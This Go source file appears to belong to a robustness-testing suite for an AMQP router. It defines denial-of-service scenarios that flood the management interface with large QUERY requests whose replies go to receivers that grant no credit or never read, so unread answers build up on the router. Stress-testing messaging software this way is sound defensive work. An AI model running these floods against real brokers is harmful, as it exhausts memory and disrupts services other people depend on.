package attack

import (
	"context"
	"fmt"
	"time"

	"github.com/postroad/postroad/internal/amqp/wire"
)

const (
	// replyRows is how many links there are to answer with.
	replyRows = 1000
	// replyColumns is how many attributes are asked for; the router knows none of them.
	replyColumns = 500
)

// query is a request to the management for very many empty cells.
func query(replyTo string, rows int32) []byte {
	names := make(wire.List, replyColumns)
	for i := range names {
		names[i] = fmt.Sprint("u", i)
	}
	sections := []wire.Described{
		{Descriptor: wire.DescriptorProperties, Value: wire.List{"id", nil, nil, nil, replyTo}},
		{Descriptor: wire.DescriptorApplicationProperties, Value: wire.Map{{Key: "operation", Value: "QUERY"},
			{Key: "entityType", Value: "org.apache.qpid.dispatch.router.link"}, {Key: "name", Value: "self"},
			{Key: "type", Value: "org.amqp.management"}, {Key: "count", Value: rows}}},
		{Descriptor: wire.DescriptorAMQPValue, Value: wire.Map{{Key: "attributeNames", Value: names}}},
	}
	var b []byte
	for _, section := range sections {
		var err error
		if b, err = wire.AppendValue(b, section); err != nil {
			panic(err) // a mistake above
		}
	}
	return b
}

// replies is an attack with requests to the management whose answers nobody reads. Prepare attaches who does not.
func replies(name string, addresses int, prepare func(*Scene) error) Attack {
	a := Attack{Name: name}
	a.Prepare = func(s *Scene) error {
		if _, err := s.receivers(replyRows, "row.", 0); err != nil {
			return err
		}
		return prepare(s)
	}
	a.Strike = func(ctx context.Context, s *Scene) {
		p, err := s.dial(0)
		if err != nil {
			s.note("cannot attack: %v", err)
			return
		}
		p.start("asks")
		p.send(sender(0, "$management"))
		sent, err := p.pump(ctx, load{links: 1, payload: func(i int) []byte {
			return query(fmt.Sprint("reply.", i%addresses), replyRows)
		}})
		s.note("%d requests (%v)", sent, err)
	}
	return a
}

// RepliesToMany lets answers wait for three hundred receivers without credit.
func RepliesToMany() Attack {
	const addresses = 300
	return replies("replies to many without credit", addresses, func(s *Scene) error {
		_, err := s.receivers(addresses, "reply.", 0)
		return err
	})
}

// RepliesToOne lets answers wait for one receiver without credit, whose requests come one behind the other.
func RepliesToOne() Attack {
	return replies("replies to one without credit", 1, func(s *Scene) error {
		_, err := s.receivers(1, "reply.", 0)
		return err
	})
}

// RepliesUnread sends answers to one who has given credit for all of them, and reads none.
func RepliesUnread() Attack {
	return replies("replies that are not read", 1, func(s *Scene) error {
		p, err := s.silent(receiver("in", 0, "reply.0"), credit(0, 0, most))
		if err == nil {
			p.keep()
		}
		return err
	})
}

// RepliesToSelf asks and reads nothing on one and the same connection, over very many links.
func RepliesToSelf() Attack {
	const links, each = 200, 5 // requests, fewer than the first credit of a link
	a := replies("replies to who asks and does not read", 1, func(*Scene) error { return nil })
	a.Strike = func(ctx context.Context, s *Scene) {
		p, err := s.silent(receiver("in", 0, "reply.0"), credit(0, 0, most))
		request := query("reply.0", replyRows)
		for i := uint32(1); err == nil && ctx.Err() == nil && i <= links; i++ {
			all := sender(i, "$management")
			for range each {
				b, _ := p.transfer(i, request, false)
				all = append(all, b...)
			}
			err = p.send(all)
		}
		s.note("requests ended with %v", err)
		pause(ctx, time.Second)
	}
	return a
}
